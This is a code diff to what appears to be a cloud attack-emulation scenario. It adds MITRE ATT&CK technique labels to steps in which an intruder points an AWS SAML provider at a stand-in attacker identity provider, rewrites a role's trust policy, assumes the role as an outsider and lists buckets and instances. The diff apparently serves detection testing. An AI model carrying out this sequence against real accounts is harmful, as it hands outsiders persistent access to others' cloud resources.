@@ -40,6 +40,7 @@ export default defineScenario({
           SAMLProviderArn: provider,
           SAMLMetadataDocument: samlMetadata('https://login.attacker.example'),
         }),
+        { technique: 'T1484.002' },
       )
       await play.as(intruder).send(
         new UpdateAssumeRolePolicyCommand({
@@ -56,6 +57,7 @@ export default defineScenario({
             ],
           }),
         }),
+        { technique: 'T1098.003' },
       )
       await play.wait(minutes(6))
       const { Credentials } = await play.as(stranger).send(
@@ -68,10 +70,11 @@ export default defineScenario({
             session: 'alice@example.com',
           }),
         }),
+        { technique: 'T1078.004' },
       )
       const federated = play.actor('federated', Credentials, elsewhere)
-      await play.as(federated).send(new ListBucketsCommand({}))
-      await play.as(federated).send(new DescribeInstancesCommand({}))
+      await play.as(federated).send(new ListBucketsCommand({}), { technique: 'T1078.004' })
+      await play.as(federated).send(new DescribeInstancesCommand({}), { technique: 'T1078.004' })
     },
   },
 })
